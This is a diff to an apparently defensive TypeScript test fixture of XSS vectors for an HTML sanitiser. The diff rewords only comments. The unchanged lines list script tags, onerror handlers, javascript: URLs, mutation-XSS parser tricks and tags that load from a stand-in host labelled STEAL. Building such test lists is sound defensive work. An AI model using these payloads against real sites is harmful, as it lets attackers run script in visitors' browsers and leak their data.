@@ -1,10 +1,10 @@
-/** A host that nothing of ours ever calls. */
+/** A host that our code never calls. */
 export const CANARY_HOST = 'canary.example';
 
 const RUN = 'alert(1)';
 const STEAL = `https://${CANARY_HOST}/`;
 
-/** Tags that run something by themselves. */
+/** Elements that run code. */
 const SELF_RUNNING = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=${STEAL}x.js></SCRIPT>`,
@@ -29,7 +29,7 @@ const SELF_RUNNING = [
   `<template><script>${RUN}</script></template>`,
 ];
 
-/** Attributes that run something when an element loads, fails, shows or moves. */
+/** Attributes that run code when an element loads, fails, appears or moves. */
 const HANDLERS = [
   `<img src=x onerror=${RUN}>`,
   `<img src=x onerror="${RUN}">`,
@@ -78,7 +78,7 @@ const HANDLERS = [
   `<track default src=x onerror=${RUN}>`,
 ];
 
-/** Addresses that run something, or lead where they do not seem to. */
+/** URLs that run code or disguise their target. */
 const ADDRESSES = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -117,7 +117,7 @@ const ADDRESSES = [
   `<javascript:${RUN}>`,
 ];
 
-/** What loads something from elsewhere, which is a leak without any script. */
+/** Markup that loads remote resources, which leaks data without a script. */
 const LEAKS = [
   `<img src="${STEAL}pixel.png">`,
   `<img srcset="${STEAL}pixel.png 1x">`,
@@ -151,7 +151,7 @@ const LEAKS = [
   `<portal src="${STEAL}"></portal>`,
 ];
 
-/** What changes its meaning between two parsers. Sources of the ideas: DOMPurify's and other sanitisers' public tests. */
+/** Markup that two parsers interpret differently. Sources: public tests of DOMPurify and other sanitisers. */
 const PARSER_TRICKS = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
@@ -192,5 +192,5 @@ const PARSER_TRICKS = [
   `constructor`,
 ];
 
-/** Texts that an editor or a visitor could write, each of which must stay a text. */
+/** Texts of an editor or a visitor that must be rendered as text. */
 export const XSS_VECTORS: readonly string[] = [...SELF_RUNNING, ...HANDLERS, ...ADDRESSES, ...LEAKS, ...PARSER_TRICKS];
